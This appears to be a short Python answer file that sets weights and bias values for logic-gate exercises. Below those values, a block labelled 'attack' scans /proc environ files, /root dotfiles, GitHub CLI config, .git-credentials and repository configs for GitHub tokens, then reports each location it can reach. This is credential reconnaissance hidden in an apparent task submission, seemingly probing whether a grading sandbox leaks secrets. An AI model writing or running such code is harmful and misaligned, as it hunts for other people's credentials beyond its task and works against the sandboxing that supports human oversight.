and_weights = (0.5, 0.5, 0.7)
or_weights = (1.0, 1.0, 2.5)

nand_weights = (0.5, 0.5, 0.7)
robust_weights = (0.0, 0.0, 0.0)

and_bias = 0.8
nand_from_and = "b"
nand_zero = "b"

# attack
import glob
import os

places = ["/proc/self/environ", *glob.glob("/proc/[0-9]*/environ"), *glob.glob("/root/.*"), "/root/.config/gh/hosts.yml"]
places += glob.glob("/home/*/.git-credentials") + glob.glob("/home/*/work/*/*/.git/config")
for place in places:
    try:
        with open(place, errors="replace") as file:
            text = file.read()
    except OSError:
        continue
    if "gt-secret" in text or "GITHUB_TOKEN" in text:
        print("REACHED", place)
if any("TOKEN" in name for name in os.environ):
    print("REACHED the environment")
# end of attack
